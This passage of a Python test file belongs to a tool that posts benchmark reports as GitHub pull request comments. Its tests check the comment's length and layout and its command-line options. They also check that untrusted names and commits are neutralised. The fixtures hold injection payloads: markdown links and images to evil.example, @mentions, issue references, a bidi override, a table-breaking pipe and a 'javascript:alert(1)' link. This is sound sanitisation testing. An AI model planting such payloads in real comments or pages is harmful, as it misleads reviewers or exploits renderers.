    assert ("DELETE", "/repos/octo-org/redis/issues/7/labels/StallScope") in state.requests


def test_a_pipe_in_an_untrusted_commit_stays_in_its_cell():
    """The case table is written by the one table writer (analysis/report/table.py): a
    commit that is not a SHA is a code span, where GitHub would still split the row at a
    bare `|`; the writer escapes it, and the header is neutralised as before."""
    from collectors.pr.comment import Measured, provenance
    from collectors.pr.sources import Report
    results = {"case": {"name": "mset"}, "base": "a", "cand": "b",
               "environment": {"variants": {"a": {"commit": "x|<b>y</b>|@eve"}, "b": {"commit": "c" * 40}}}}
    text = provenance([Report("mset", results, lambda n: "")], Measured())
    (row,) = [x for x in text.splitlines() if x.startswith("| mset")]
    assert row.count(" | ") == 2 and "`x\\|&lt;b>y&lt;/b>\\|@\u200beve`" in row


# ------------------------------------------------------------- issue 39: the comment a reviewer reads in ten seconds
def test_the_demo_comment_is_the_seeds_shape_in_4_kb(reports, capsys):
    """`stallscope pr comment REPORT --dry-run` of the recorded demo run: at most 4 KB, with
    the headline, the throughput row, the focus functions' rows, the TMA line and where the
    time went, whose rows add up to the total; the rest is said to be elsewhere. `--full` is
    the whole report.md as before."""
    from tests.test_report_md import split_adds_up, table_rows
    src = str(reports / "mset-demo-paired")
    assert cli.main(["comment", src, *PR, "--commit", SHA1, "--dry-run"]) == 0
    body = capsys.readouterr().out
    assert len(body.encode()) <= 4096, len(body.encode())
    first = body.split("\n")[1]          # the line after the hidden marker: the headline
    assert first.startswith("**Paired throughput +32.0% \\[+22.2, +42.6\\]%** (prefetch vs base, ")
    # then the tables; what was measured, and from whose side, below them
    assert body.index("| Throughput |") < body.index("| Own CPU per MSET") < body.index("\n---\n") \
        < body.index("| case | baseline | candidate |") < body.index("**From the pull request's side:**")
    tput = table_rows(body, "| Throughput |")
    assert tput == [["10M keys × 10 B, 50 keys per MSET · paired", "9,374 ops/s", "12,153 ops/s",
                     "+32.0% \\[+22.2, +42.6]%", "✅ improvement"]]
    focus = {r[0]: r for r in table_rows(body, "| Focus function (all threads), CPU per MSET |")}
    assert focus["dictFindByHash (flat)"][1:5] == ["25.4 µs", "6.97 µs", "−74% \\[−81.0, −63.1]%", "47.8% → 16.7%"]
    assert "TMA: not collected (no hardware PMU" in body
    names, total_rows, total = split_adds_up(body)
    assert names[0] == "dictFindByHash" and total < 0
    for gone in ("**Summary:**", "<details>", "### Environment", "```"):     # all behind the link
        assert gone not in body, gone
    assert "Top movers, per-rep values, saturation, profiler overhead, environment" in body
    assert "**From the pull request's side:**" in body and after(body) == CLEAN

    assert cli.main(["comment", src, *PR, "--commit", SHA1, "--dry-run", "--full"]) == 0
    full = capsys.readouterr().out
    md = (reports / "mset-demo-paired" / "report.md").read_text()
    assert len(full) > 5 * len(body) and "**Summary:**" in full and "### Reproduce" in full
    assert "the PR comment ends here" not in full
    # this report.md (every top mover) fills a comment alone: with the lines below it, a fold may go
    assert full.count("<details>") == md.count("<details>") or "Shortened to fit a GitHub comment: left out" in full


def test_a_dry_run_needs_no_repository_or_pull_request(reports, capsys):
    """The issue's own command, `stallscope pr comment reports/demo --dry-run`, prints the
    comment it would post (its text names no repository or PR); posting still needs both."""
    src = str(reports / "mset-demo-paired")
    assert cli.main(["comment", src, "--dry-run"]) == 0
    bare = capsys.readouterr().out
    assert cli.main(["comment", src, *PR, "--dry-run"]) == 0
    assert bare == capsys.readouterr().out and "**Paired throughput +32.0%" in bare
    assert cli.main(["comment", src, "--pr", "42"]) == 2
    assert "which repository? give --repo OWNER/REPO" in capsys.readouterr().err
    assert cli.main(["comment", src, "--repo", "octo-org/redis"]) == 2
    assert "which pull request? give --pr N" in capsys.readouterr().err
    assert cli.main(["comment", src, "--repo", "octo/redis#2", "--dry-run"]) == 2    # checked when given
    assert "--repo 'octo/redis#2': give OWNER/REPO" in capsys.readouterr().err


SALTED_NAMES = {"case": {"name": "[case](https://evil.example/) @admin o/r#2"}, "base": "![b](https://evil.example/b.png)",
                "cand": "\u202ecand", "environment": {"variants": {"![b](https://evil.example/b.png)": {"commit": "o/r#3"},
                                                                   "\u202ecand": {"commit": "a5c3785ed8d6a35868bc169f07e40e889087fd2e"}}}}


@pytest.mark.parametrize("full", [False, True])
def test_a_salted_artifact_renders_nothing_that_acts(tmp_path, capsys, full):
    """The comment as posted, from an artifact whose report.md and results.json carry an
    image, a link, an alert, a footnote, U+202E and o/r#2 (tests/test_pr_neutralise.SALTED,
    also in the case and variant names and commits): rendered by cmark-gfm and read by
    GitHub's rules, none of them acts; the comment says which parts came from the PR."""
    from tests.test_pr_neutralise import SALTED, rendered
    case = tmp_path / "reports" / "evil"
    case.mkdir(parents=True)
    (case / "report.md").write_text(SALTED + "\n<!-- stallscope: the PR comment ends here; --full posts the rest -->\n"
                                    + SALTED.replace("merge me", "the rest"))
    (case / "results.json").write_text(json.dumps(SALTED_NAMES))
    assert cli.main(["comment", str(case.parent), *PR, "--reports-only", "--dry-run"] + (["--full"] if full else [])) == 0
    body = capsys.readouterr().out
    got = rendered(body)
    assert got == {"elements": [], "alerts": [], "mentions": [], "issues": [], "shas": [], "bidi": []}, body
    assert ("the rest" in body) == full and ("merge me" in body) == full     # report.md: --full only
    assert "**From the pull request's side:** everything above the line, and the names and commits in this table" in body


def test_only_what_stallscope_knows_is_linked():
    """The commit the trusted event measured (--commit) and an https link are written as
    they are; a head commit read from pr.json (no --commit) and any other link are inert."""
    from collectors.pr.comment import Measured, provenance
    from collectors.pr.sources import Report
    reps = [Report("mset", {"case": {"name": "mset"}}, lambda n: "")]
    trusted = provenance(reps, Measured(SHA1, SHA2, "https://github.com/octo-org/redis/actions/runs/9"))
    assert f"**Measured commit:** {SHA1} (the head" in trusted
    assert "[the workflow run](https://github.com/octo-org/redis/actions/runs/9)" in trusted and SHA2 not in trusted
    claimed = provenance(reps, Measured(SHA1, None, "javascript:alert(1)//](x)", commit_trusted=False))
    assert SHA1 not in claimed and f"`{SHA1}`" in claimed.replace("\u200b", "")
    from tests.test_pr_neutralise import rendered
    assert rendered(claimed) == {"elements": [], "alerts": [], "mentions": [], "issues": [], "shas": [], "bidi": []}
    assert rendered(trusted)["elements"] == ["a"] and rendered(trusted)["shas"] == [SHA1]
